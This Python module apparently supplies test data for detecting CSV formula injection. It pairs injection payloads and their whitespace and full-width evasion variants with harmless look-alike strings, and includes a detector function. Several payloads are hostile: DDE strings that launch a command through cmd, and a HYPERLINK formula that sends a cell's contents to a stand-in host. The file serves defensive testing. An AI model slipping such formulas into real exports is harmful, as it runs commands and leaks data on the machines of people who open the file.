"""Texts that a careless spreadsheet runs, and texts that only look like them."""

from __future__ import annotations

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test/?leak="&A1,"press here")',
    "=1+1",
    "+1+1",
    "-2+3",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tใบเสร็จ",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",  # noqa: RUF001 - what is tried
    "＋1+1",  # noqa: RUF001 - what is tried
    "－2+3",  # noqa: RUF001 - what is tried
    "＠SUM(1)",  # noqa: RUF001 - what is tried
    "'=1+1",
    "''=1+1",
    '=1+1";=2+2',
    '=DDE("cmd";"/C calc";"x")',
    '+cmd|"/C calc"!A1,=1',
)
TRAPS = (
    "1=1",
    "ก=ข",
    "'",
    "'ก'",
    "0012345678",
    "G999900000001",
    "1999900000013",
    "999-0-00000-1",
    '"ก", "ข"; ค\tง',
    "ก\nข\r\nค",
    "_x000D_",
    "x005F_",
    "\u0001\u001f",
    "<b>&amp;</b> 🙏🏽",
    "a;=1+1",
)


def runs_in_csv(cell: str) -> bool:
    """Say whether a spreadsheet would run what stands in a cell of CSV, apart from our own code."""
    text = cell.strip()
    return text[:1] in {"=", "+", "-", "@", "＝", "＋", "－", "＠"} or cell[:1] in {  # noqa: RUF001 - signs
        "\t",
        "\r",
        "\n",
    }
